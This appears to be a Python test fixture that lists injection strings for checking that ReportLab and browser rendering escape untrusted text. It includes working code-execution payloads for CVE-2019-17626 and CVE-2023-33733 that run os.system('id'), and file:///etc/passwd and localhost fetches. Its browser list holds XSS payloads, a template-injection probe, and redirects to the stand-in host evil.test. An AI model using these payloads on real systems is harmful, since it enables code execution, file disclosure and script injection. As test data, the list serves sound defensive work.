"""Texts on which ReportLab, a browser or a template would act if it read them as its own language.

Those for ReportLab use what its paragraphs know (tags, entities, attributes that CVE-2019-17626 and
CVE-2023-33733 evaluate, addresses that it fetches); those for a browser set `window.HK`.
"""

REPORTLAB = (
    "lot <A17> passed", "<b>bold", "</b>", "<i>x</i>", "<u>x</u>", "a < b > c & d", "&lt;b&gt;",
    "&#60;b&#62;", "&amp;nbsp;", "<br/>", "<para>x</para>", "<para alignment='right'>x",
    "<font color='red'>x</font>", "<font size='400'>x</font>", "<font name='nosuch'>x</font>",
    '<font color="[getattr(pow, W(\'__globals__\'))[\'os\'].system(\'id\') for W in [str]]">x</font>',
    '<span color="__import__(\'os\').system(\'id\')">x</span>',
    "<img src='file:///etc/passwd' width='9' height='9'/>", "<img src='http://127.0.0.1:9/x.png'/>",
    "<a href='javascript:alert(1)'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    "<link destination='x'>y</link>", "<onDraw name='x' label='y'/>", "<unichar code='65'/>",
    "<greek>a</greek>", "<super>2</super>", "<sub>2</sub>", "<seq id='x'/>", "<evalString>1+1</evalString>",
    "<![CDATA[x]]>", "<!-- x -->", "<?xml version='1.0'?>", "%(name)s {0} {name}", "\\u003cb\\u003e",
)  # fmt: skip

BROWSER = (
    "<script>window.HK=1</script>", "<img src=x onerror=window.HK=1>", '"><svg onload=window.HK=1>',
    "' autofocus onfocus=window.HK=1 x='", "</textarea><script>window.HK=1</script>",
    "</title><script>window.HK=1</script>", "<iframe srcdoc='<script>parent.HK=1</script>'></iframe>",
    "<details open ontoggle=window.HK=1>", "javascript:window.HK=1", "<style>*{background:red}</style>",
    "{{ 7*7 }} {% raw %}", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "<form action=//evil.test><button>x",
    "--><script>window.HK=1</script>", "]]><script>window.HK=1</script>",
)  # fmt: skip
